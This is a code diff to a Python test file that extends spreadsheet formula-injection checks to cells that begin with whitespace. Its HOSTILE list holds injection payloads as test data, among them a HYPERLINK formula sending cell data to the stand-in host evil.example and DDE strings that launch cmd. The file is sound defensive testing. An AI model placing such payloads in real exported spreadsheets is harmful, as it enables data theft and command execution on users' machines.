@@ -11,7 +11,8 @@ import pytest
 from ctmask.core.spreadsheet import FORMULA_STARTS, restore_cell, safe_cell
 
 HOSTILE = ["=1+2.png", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
-           "+1-1", "-2+3", "\tx=1", "\rx=1", "'=already quoted", "'plain quote"]
+           "+1-1", "-2+3", "\tx=1", "\rx=1", "'=already quoted", "'plain quote",
+           " =1+2.png", "  @SUM(1+1)", "\u00a0=cmd|' /C calc'!A0", " \n+1", "\x0b-2+3"]  # whitespace first
 CLASSES = ("normal", "pneumonia", "covid19")
 
 
@@ -33,20 +34,20 @@ def is_number(cell: str) -> bool:
 
 def assert_no_formula_cells(path) -> list[list[str]]:
     """Every cell is a number ctmask wrote (-12.5 is a number to a spreadsheet too) or text that
-    does not start like a formula."""
+    does not start like a formula, also after leading whitespace (which spreadsheets skip)."""
     with open(path, newline="", encoding="utf-8") as fh:
         rows = list(csv.reader(fh))
     for row in rows:
         for cell in row:
-            assert is_number(cell) or not cell.startswith(FORMULA_STARTS), (cell, row)
+            assert is_number(cell) or not cell.lstrip().startswith(FORMULA_STARTS), (cell, row)
     return rows
 
 
 def test_safe_cell_quotes_formula_starts_and_restores_exactly():
     for value in HOSTILE:
         cell = safe_cell(value)
-        assert not cell.startswith(FORMULA_STARTS) and restore_cell(cell) == value, value
-    for value in ("normal", "test_001.png", "1.2.840.113619", "", "[1, 2]"):
+        assert not cell.lstrip().startswith(FORMULA_STARTS) and restore_cell(cell) == value, value
+    for value in ("normal", "test_001.png", "1.2.840.113619", "", "[1, 2]", " plain name"):
         assert safe_cell(value) == value == restore_cell(value)
     for number in (-12.5, -3, 0.7, None):  # ctmask's own numbers stay numbers
         assert safe_cell(number) is number
